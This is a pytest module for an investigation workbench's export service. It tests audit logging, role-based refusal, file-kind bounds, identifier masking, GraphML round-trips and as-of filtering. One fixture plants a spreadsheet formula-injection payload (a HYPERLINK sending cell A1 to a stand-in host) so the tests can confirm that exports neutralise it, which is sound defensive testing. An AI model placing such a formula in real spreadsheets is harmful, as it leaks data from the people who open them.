"""What leaves the workbench: masked, bounded, on record first, and never a formula."""

from __future__ import annotations

import io
from collections.abc import Iterator
from datetime import timedelta
from xml.etree import ElementTree as ET

import networkx as nx
import openpyxl
import pytest

from graph.errors import InputError, NotAllowed
from graph.records import Node, NodeRef, batch_of, to_millis
from tests.workbench.door import Clock, opened
from tests.workbench.town import CLEAR, ID, PHONE, RING, SEEN, build, ref
from workbench.casebook import audit
from workbench.casebook.audit import Asked
from workbench.services.all import Services
from workbench.services.canvas.exports import MOST, Exports
from workbench.services.canvas.graph_shapes import element_id
from workbench.services.office import Office
from workbench.services.permissions import Person, Role
from workbench.services.subject import Subject
from workbench.ui.viewmodel import exported

LIN, AUDITOR = Person("lin", "Lin Yue", Role.INVESTIGATOR), Person("he", "He Jing", Role.AUDITOR)
ABOUT = Subject("ring", RING)
EVIL = '=HYPERLINK("http://x/?"&A1,"see")'


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
    with opened(tmp_path_factory.mktemp("town") / "home", Clock()) as made:
        build(made)
        evil = Node(NodeRef("Employer", "EMP-X"), to_millis(SEEN), "", {"name": EVIL})
        made.store.write(batch_of("evil", [evil]))
        yield made


@pytest.fixture
def exports(office: Office) -> Exports:
    return Services(office).exports


@pytest.fixture
def refs(office: Office) -> list[NodeRef]:
    people = [ref(office, "Person", ID), ref(office, "Phone", PHONE)]
    return [NodeRef("Application", "APP0001"), *people, NodeRef("Employer", "EMP-X")]


def log(office: Office) -> list[audit.Entry]:
    with office.casebook.reading() as db:
        return list(audit.each(db, Asked(action="export")))


def test_the_log_has_who_took_what_and_how_much(office: Office, exports: Exports, refs: list[NodeRef]) -> None:
    before = len(log(office))
    exports.picture(LIN, ABOUT, "svg", nodes=20, edges=39)
    exports.table(LIN, ABOUT, "csv", refs, as_of=SEEN + timedelta(days=1))
    exports.graph(LIN, ABOUT, refs)
    told = [(each.actor, each.action, each.subject, dict(each.detail)) for each in log(office)[before:]]
    assert told == [
        ("lin", "export.svg", f"ring/{RING}", {"nodes": 20, "links": 39, "as_of": "now"}),
        ("lin", "export.csv", f"ring/{RING}", {"nodes": 4, "links": 2, "as_of": "2026-01-06T03:00:00+00:00"}),
        ("lin", "export.graphml", f"ring/{RING}", {"nodes": 4, "links": 2, "as_of": "now"}),
    ]


def test_who_may_not_take_data_out_gets_none(office: Office, exports: Exports, refs: list[NodeRef]) -> None:
    before = len(log(office))
    for ask in (
        lambda: exports.picture(AUDITOR, ABOUT, "png", nodes=1, edges=1),
        lambda: exports.table(AUDITOR, ABOUT, "xlsx", refs),
        lambda: exports.graph(AUDITOR, ABOUT, refs),
    ):
        with pytest.raises(NotAllowed):
            ask()
    assert len(log(office)) == before


def test_files_are_bounded_and_of_known_kinds(exports: Exports, refs: list[NodeRef]) -> None:
    for ask in (
        lambda: exports.picture(LIN, ABOUT, "exe", nodes=1, edges=1),
        lambda: exports.picture(LIN, ABOUT, "png", nodes=-1, edges=1),
        lambda: exports.table(LIN, ABOUT, "pdf", refs),
        lambda: exports.table(LIN, ABOUT, "csv", []),
        lambda: exports.graph(LIN, ABOUT, refs * MOST),
    ):
        with pytest.raises(InputError):
            ask()


def test_a_table_keeps_its_order_and_holds_no_formula(exports: Exports, refs: list[NodeRef]) -> None:
    taken = exports.table(LIN, ABOUT, "csv", refs[::-1])
    lines = exported.csv(taken).decode("utf-8-sig").splitlines()
    assert [line.split(",")[0] for line in lines[1:]] == ["employer", "phone", "person", "application"]
    assert "\"'=HYPERLINK(" in lines[1]
    book = openpyxl.load_workbook(io.BytesIO(exported.xlsx(exports.table(LIN, ABOUT, "xlsx", refs[::-1]))))
    cell = book.active.cell(3, 2)
    assert (cell.value, cell.data_type) == (EVIL, "s")
    assert "Lin Yue (lin)" in book.active.cell(1, 1).value


def test_graphml_is_read_back_with_all_links_between(office: Office, exports: Exports, refs: list[NodeRef]) -> None:
    made = exported.graphml(exports.graph(LIN, ABOUT, refs))
    read = nx.read_graphml(io.BytesIO(made), force_multigraph=True)
    assert set(read.nodes) == {element_id(each) for each in refs}
    assert {told["relation"] for *_, told in read.edges(data=True)} == {"APPLIED", "HAS_PHONE"}
    assert read.nodes[element_id(refs[2])]["label"] == "139****5678"
    assert "masked" in read.graph["ringroad"]


def test_a_large_graph_is_read_in_parts_and_loses_no_link(
    exports: Exports, refs: list[NodeRef], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("workbench.services.canvas.exports.CAP", 1)
    taken = exports.graph(LIN, ABOUT, refs)
    assert [each.ref for each in taken.picture.nodes] == refs
    assert {each.relation for each in taken.picture.ties} == {"APPLIED", "HAS_PHONE"}


def test_no_identifier_leaves(exports: Exports, refs: list[NodeRef]) -> None:
    table, graph = exports.table(LIN, ABOUT, "csv", refs), exports.graph(LIN, ABOUT, refs)
    sheet = openpyxl.load_workbook(io.BytesIO(exported.xlsx(table))).active
    cells = repr([[cell.value for cell in row] for row in sheet.iter_rows()])
    told = exported.csv(table).decode() + exported.graphml(graph).decode() + cells
    assert not [clear for clear in CLEAR if clear in told]


def test_what_was_not_known_then_is_left_out(exports: Exports, refs: list[NodeRef]) -> None:
    with_later = exports.graph(LIN, ABOUT, refs, as_of=SEEN - timedelta(days=1))
    assert with_later.picture.nodes == []
    assert ET.fromstring(exported.graphml(with_later)) is not None
